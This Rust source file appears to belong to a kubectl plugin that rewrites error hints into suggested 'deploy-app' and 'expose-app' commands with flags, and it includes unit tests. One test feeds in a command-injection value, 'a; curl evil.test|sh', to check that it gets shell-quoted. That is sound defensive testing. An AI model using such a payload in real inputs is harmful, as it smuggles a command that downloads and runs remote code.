//! What is to be changed, in the flags of this command: `shared` says it in fields of manifests and in flags of `expose-app`.

use commons::shell::{Shell, shell};
use std::collections::BTreeSet;

use commons::error::{Amount, Change};
use commons::{Error, printable};

use commons::quantity::Quantity;

/// The same failure of an app that is there, with commands to type.
pub fn of_app(error: Error, app: &str, here: Option<&str>) -> Error {
    let command = |flags: &Shell| {
        let command = shell("kubectl deploy-app").arg(app).and(flags);
        format!("`{}`", command.option("-n", here))
    };
    let any = |why: &str, flags: &Shell| Some(vec![format!("{why}: {}", command(flags))]);
    let one = |why: &str, flags: &'static str| any(why, &shell(flags));
    error.in_flags_of(|change| match change {
        Change::Image => one("correct the image", "--image IMAGE"),
        Change::Command => one("what it runs stands after `--`", "--command -- PROGRAM"),
        Change::Environment => one("correct the address that it is given", "--env NAME=VALUE"),
        Change::Port => one("if it listens on another port", "--port PORT"),
        Change::User => Some(vec![
            format!(
                "run it as another user: {}",
                command(&shell("--run-as 1000"))
            ),
            format!(
                "if the image must be root: {}",
                command(&shell("--allow-root"))
            ),
        ]),
        Change::Privileges => one(
            "let it run as the namespace wants it",
            "--allow-root=false --run-as 1000",
        ),
        Change::Patience => one(
            "if it only needs longer to start, wait longer",
            "--timeout 15m",
        ),
        Change::MoreMemory(limit) => any("give it more", &shell("--memory").arg(twice(limit))),
        Change::Less(amounts) => {
            let flags = amounts
                .iter()
                .filter_map(|(amount, asked)| {
                    Some(shell(flag(*amount)).arg(less(*amount, asked.as_deref())?))
                })
                .reduce(|flags, flag| flags.and(&flag));
            // So little that less is no use.
            if flags.is_none() && !amounts.is_empty() {
                return Some(Vec::new());
            }
            any("ask for less", &flags?)
        }
        Change::Bounds(amounts) => {
            let flags = amounts
                .iter()
                .map(|amount| shell(flag(*amount)).then("AMOUNT"))
                .reduce(|flags, flag| flags.and(&flag));
            any("ask for an amount within the bounds", &flags?)
        }
        Change::LookAgain(_) | Change::Field(_) => None,
        Change::Address { why, flags } => Some(vec![format!(
            "{why}: {}",
            flags
                .iter()
                .map(|flag| match own(flag) {
                    Some(flag) => command(&flag),
                    None => format!("`{}`", of_expose_app(app, flag, here)),
                })
                .collect::<Vec<_>>()
                .join(", ")
        )]),
    })
}

/// The same failure of the address of an Ingress that manifests have made: what is to be changed stands in them.
pub fn of_files(error: Error, ingress: &str) -> Error {
    let ingress = printable::line(ingress);
    error.in_flags_of(|change| match change {
        Change::Field(field) => Some(vec![format!("{field}, and deploy the files again")]),
        Change::LookAgain(how) => Some(vec![format!("{how}: run the same command again")]),
        Change::Address { why, flags } => {
            let field = |flag: &Shell| match flag.first() {
                "--host" => Some(format!("`spec.rules[].host` of ingress `{ingress}`")),
                "--class" => Some(format!("`spec.ingressClassName` of ingress `{ingress}`")),
                "--tls" => Some(format!("`spec.tls` of ingress `{ingress}`")),
                "--port" => Some("`spec.ports[].targetPort` of its Service".to_owned()),
                "--controller" => Some("`spec.ingress[].from` of a NetworkPolicy".to_owned()),
                _ => None,
            };
            let fields: BTreeSet<String> = flags.iter().filter_map(field).collect();
            let fields: Vec<String> = fields.into_iter().collect();
            // What has no field, such as the page to ask for, is no use here.
            Some(if fields.is_empty() {
                Vec::new()
            } else {
                vec![format!("{why}: {}", fields.join(", "))]
            })
        }
        _ => None,
    })
}

/// The same failure before anything of the app was written: flags to add to what was typed.
pub fn before_app(error: Error, app: &str, here: Option<&str>) -> Error {
    error.in_flags_of(|change| {
        let Change::Address { why, flags } = change else {
            return None;
        };
        let mut ways: Vec<String> = flags
            .iter()
            .filter_map(|flag| Some(format!("`{}`", own(flag)?)))
            .collect();
        ways.extend(flags.iter().find(|flag| own(flag).is_none()).map(|other| {
            format!(
                "deploy without `--expose`, then `{}`",
                of_expose_app(app, other, here)
            )
        }));
        Some(vec![format!("{why}: {}", ways.join(", or "))])
    })
}

/// A flag of `expose-app` in this command's, if it has it.
fn own(flag: &Shell) -> Option<Shell> {
    match flag.first() {
        "--host" => Some(flag.instead("--expose")),
        "--port" => Some(flag.clone()),
        _ => None,
    }
}

/// The command of `expose-app` with this flag.
fn of_expose_app(app: &str, flag: &Shell, here: Option<&str>) -> Shell {
    let command = shell("kubectl expose-app").arg(app).and(flag);
    command.option("-n", here)
}

fn flag(amount: Amount) -> &'static str {
    match amount {
        Amount::Cpu => "--cpu",
        Amount::Memory => "--memory",
        Amount::Replicas => "--replicas",
    }
}

/// A small amount that is less than what was asked for, if there is one.
fn less(amount: Amount, asked: Option<&str>) -> Option<&'static str> {
    let small: &[&str] = match amount {
        Amount::Cpu => &["100m", "50m", "10m"],
        Amount::Memory => &["128Mi", "64Mi", "32Mi"],
        Amount::Replicas => &["1"],
    };
    let asked = asked.and_then(|asked| asked.parse::<Quantity>().ok());
    small.iter().copied().find(|small| {
        asked.is_none_or(|asked| small.parse::<Quantity>().is_ok_and(|small| small < asked))
    })
}

/// Twice the limit that was too low.
fn twice(limit: &str) -> String {
    limit
        .parse::<Quantity>()
        .map_or_else(|_| "1Gi".to_owned(), |limit| limit.times(2).memory())
}

#[cfg(test)]
mod tests {
    use commons::error::Hint;

    use super::*;

    #[test]
    fn fields_become_flags() {
        let error = Error::new("x")
            .hint(Hint::to_change(
                Change::Image,
                "correct `spec.template.spec.containers[0].image`",
            ))
            .hint(Hint::to_change(Change::Image, "write it in full"))
            .hint(Hint::to_change(Change::User, "`runAsUser: 1000`"))
            .hint("read all of it: `kubectl logs web`");
        assert_eq!(
            of_app(error, "web", None).hints(),
            [
                "correct the image: `kubectl deploy-app web --image IMAGE`",
                "run it as another user: `kubectl deploy-app web --run-as 1000`",
                "if the image must be root: `kubectl deploy-app web --allow-root`",
                "read all of it: `kubectl logs web`",
            ]
        );
    }

    #[test]
    fn amounts_go_up_and_down() {
        let hints = |change| {
            let error = Error::new("x").hint(Hint::to_change(change, "field"));
            of_app(error, "web", Some("a")).hints()[0].to_string()
        };
        for (change, hint) in [
            (
                Change::MoreMemory("64Mi".into()),
                "give it more: `kubectl deploy-app web --memory 128Mi -n a`",
            ),
            (
                Change::MoreMemory(String::new()),
                "give it more: `kubectl deploy-app web --memory 1Gi -n a`",
            ),
            (
                Change::Less(vec![(Amount::Cpu, Some("2".into()))]),
                "ask for less: `kubectl deploy-app web --cpu 100m -n a`",
            ),
            (
                Change::Less(vec![
                    (Amount::Cpu, None),
                    (Amount::Memory, None),
                    (Amount::Replicas, None),
                ]),
                "ask for less: `kubectl deploy-app web --cpu 100m --memory 128Mi --replicas 1 -n a`",
            ),
            (
                Change::Bounds(vec![Amount::Memory]),
                "ask for an amount within the bounds: `kubectl deploy-app web --memory AMOUNT -n a`",
            ),
            (
                Change::Less(vec![(Amount::Cpu, Some("100m".into()))]),
                "ask for less: `kubectl deploy-app web --cpu 50m -n a`",
            ),
            (Change::Less(Vec::new()), "field"),
        ] {
            assert_eq!(hints(change), hint);
        }
    }

    #[test]
    fn flags_of_expose_app_are_given_with_their_command() {
        let error = Error::new("x")
            .hint(Hint::flags("meanwhile", ["--tls off", "--tls secret=NAME"]))
            .hint(Hint::flags("take another host", ["--host NAME"]))
            .hint("let it listen on 0.0.0.0: `--host 0.0.0.0`");
        assert_eq!(
            of_app(error.clone(), "web", Some("a")).hints(),
            [
                "meanwhile: `kubectl expose-app web --tls off -n a`, `kubectl expose-app web --tls secret=NAME -n a`",
                "take another host: `kubectl deploy-app web --expose NAME -n a`",
                "let it listen on 0.0.0.0: `--host 0.0.0.0`",
            ]
        );
        let before = before_app(error, "web", None);
        assert_eq!(
            before.hints()[0],
            "meanwhile: deploy without `--expose`, then `kubectl expose-app web --tls off`"
        );
        assert_eq!(before.hints()[1], "take another host: `--expose NAME`");
    }

    #[test]
    fn what_others_have_named_is_quoted() {
        let host = commons::shell::shell("--host").arg("a; curl evil.test|sh");
        let error = Error::new("x").hint(Hint::flags("take another host", [host]));
        assert_eq!(
            of_app(error.clone(), "web", Some("a b")).hints(),
            [
                "take another host: `kubectl deploy-app web --expose 'a; curl evil.test|sh' -n 'a b'`"
            ]
        );
        assert_eq!(
            before_app(error, "web", None).hints(),
            ["take another host: `--expose 'a; curl evil.test|sh'`"]
        );
    }

    #[test]
    fn in_files_it_is_fields_that_are_changed() {
        let error = Error::new("x")
            .hint(Hint::flags("meanwhile", ["--tls off", "--tls secret=NAME"]))
            .hint(Hint::flags("let it in", ["--controller NAMESPACE"]))
            .hint(Hint::flags("name a page", ["--path /PAGE"]))
            .hint(Hint::to_change(
                Change::Field("set `a` to 1".into()),
                "patch",
            ))
            .hint(Hint::to_change(
                Change::LookAgain("look again".into()),
                "list",
            ));
        assert_eq!(
            of_files(error, "web").hints(),
            [
                "meanwhile: `spec.tls` of ingress `web`",
                "let it in: `spec.ingress[].from` of a NetworkPolicy",
                "set `a` to 1, and deploy the files again",
                "look again: run the same command again",
            ]
        );
    }
}
